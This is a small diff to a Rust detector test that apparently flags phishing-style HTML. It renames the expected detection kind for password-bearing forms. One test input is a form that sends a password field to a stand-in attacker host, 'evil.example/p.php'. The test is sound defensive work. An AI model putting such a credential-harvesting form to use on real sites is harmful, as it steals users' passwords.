@@ -342,7 +342,7 @@ fn check_finds_each_sign() {
         ),
         (
             r#"<form action="https://evil.example/p.php"><input type=password></form>"#,
-            HtmlForm,
+            HtmlPasswordForm,
             Some("a form posting to hxxps://evil[.]example/p.php with a password field"),
         ),
         (
@@ -352,7 +352,7 @@ fn check_finds_each_sign() {
         ),
         (
             r#"<input type=password name=p>"#,
-            HtmlForm,
+            HtmlPasswordForm,
             Some("a form without an action with a password field"),
         ),
         (r#"<p>no form here</p>"#, HtmlForm, None),
